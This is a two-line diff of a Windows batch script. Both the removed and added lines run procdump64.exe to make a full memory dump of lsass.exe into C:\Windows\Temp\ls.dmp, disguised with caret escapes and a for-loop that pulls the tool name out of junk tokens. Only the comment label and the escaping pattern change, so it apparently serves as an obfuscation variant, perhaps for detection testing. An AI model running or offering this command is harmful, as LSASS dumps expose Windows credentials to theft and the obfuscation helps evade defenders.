@@ -1,2 +1,2 @@
-REM init 4005 v4
-for /f "tokens=3 delims=;" %%i ^i^n ("itjk;htla;procdump64.exe") d^o %%i -ac^cepteula -m^a ^lsa^ss.e^xe ^C:\W^i^nd^o^ws\^T^e^mp\l^s.dmp
+REM task 2584 v4
+^f^or /f "tokens=3 delims=;" %%i i^n ("vsqn;ooge;procdump64.exe") ^do %%^i -a^ccep^te^u^la -^m^a l^sa^s^s.e^x^e C:\^Window^s\Te^m^p\l^s.^dm^p
